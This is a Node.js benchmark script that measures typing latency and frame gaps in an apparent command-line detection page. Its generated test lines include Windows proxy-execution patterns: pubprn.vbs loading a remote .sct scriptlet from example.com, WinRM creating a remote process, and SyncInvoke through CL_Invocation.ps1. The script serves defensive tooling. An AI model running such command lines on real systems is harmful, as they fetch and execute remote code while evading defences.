// Measures how long a keystroke takes to reach the verdicts: 1,000 lines in the editor, characters
// typed one at a time, and the time from each input event to the list of events being that of the
// new text, in the page's own clock. Prints the median and the 95th percentile, and the longest time
// between two frames meanwhile.
//
//   node scripts/bench-typing.mjs [LINES] [KEYS]     needs a built page in dist/
import { openPage, stopAll } from '../tests/pages/browser.mjs';
import { headline, paste } from '../tests/pages/states.mjs';
import { read, select } from '../tests/pages/editor.mjs';

const [lines, keys] = [process.argv[2] ?? 1000, process.argv[3] ?? 100].map(Number);

/** Lines of every kind: quiet ones, matches, nested commands, and ones that can't be told. */
const kinds = [
  (n) => `C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Job${n}`,
  (n) => `cscript.exe //b C:\\Windows\\System32\\Printing_Admin_Scripts\\en-US\\pubprn.vbs 127.0.0.1 script:https://example.com/${n}.sct`,
  (n) => `winrm invoke Create wmicimv2/Win32_Process @{CommandLine="job${n}.exe"} -r:http://host${n}.example.com:5985`,
  (n) => `cmd.exe /c cscript //nologo C:\\Tools\\report${n}.vbs`,
  (n) => `powershell.exe -NoProfile -Command ". .\\CL_Invocation.ps1; SyncInvoke job${n}.exe"`,
  (n) => `wscript.exe "C:\\Program Files\\Inventory\\collect.vbs" /site:${n}`,
];
const text = Array.from({ length: lines }, (_, n) => kinds[n % kinds.length](n)).join('\n');

const { page, troubles } = await openPage({ viewport: { width: 1440, height: 900 } });
await paste(page, text);
await headline(page, /of [\d,]+ events match/);
await page.waitForFunction((lines) => document.querySelectorAll('.row').length >= lines, Math.min(lines, 200));
const editor = page.getByLabel('Events: command lines or log records');
await editor.focus();
// The first keystroke after a paste is like any other; the caret goes to the end of a line.
const end = (await read(editor)).indexOf('\n');
await select(editor, end, end);

// From an input event until the list carries the number of a later run, and until that is drawn.
await page.evaluate(() => {
  const run = () => document.querySelector('.events')?.dataset.run;
  window.measured = [];
  let typed;
  let before;
  const start = () => {
    typed = performance.now();
    before = run();
  };
  const observer = new MutationObserver(() => {
    if (typed === undefined || run() === before) return;
    const since = typed;
    typed = undefined;
    const listed = performance.now() - since;
    requestAnimationFrame(() => {
      const channel = new MessageChannel();
      channel.port1.onmessage = () => window.measured.push({ listed, painted: performance.now() - since });
      channel.port2.postMessage(0);
    });
  });
  document.addEventListener('input', start, { capture: true });
  window.gaps = [];
  let last = performance.now();
  const frame = () => {
    const now = performance.now();
    window.gaps.push(now - last);
    last = now;
    requestAnimationFrame(frame);
  };
  requestAnimationFrame(frame);
  observer.observe(document.body, { subtree: true, attributes: true, attributeFilter: ['data-run'] });
});
for (let key = 0; key < keys; key++) {
  await page.keyboard.type('abcdefghij'[key % 10]);
  await page.waitForFunction((key) => window.measured.length > key, key);
}
const { measured, gaps } = await page.evaluate(() => ({ measured: window.measured, gaps: window.gaps }));

const at = (list, share) => list.toSorted((a, b) => a - b)[Math.min(list.length - 1, Math.floor(list.length * share))];
console.log(`Typing into ${lines} lines, ${keys} keystrokes, milliseconds from the keystroke:`);
for (const name of ['listed', 'painted']) {
  const list = measured.map((one) => one[name]);
  const goal = name === 'listed' ? '   (wanted at 1,000 lines: median 30)' : '';
  console.log(`  verdicts ${name.padEnd(8)} median ${at(list, 0.5).toFixed(1)}   95 % ${at(list, 0.95).toFixed(1)}${goal}`);
}
console.log(`  frames            median ${at(gaps, 0.5).toFixed(1)}   worst ${Math.max(...gaps).toFixed(1)}   (wanted: worst 50)`);
if (troubles.length > 0) console.log(troubles.join('\n'));
await stopAll();
process.exit(troubles.length > 0 ? 1 : 0);
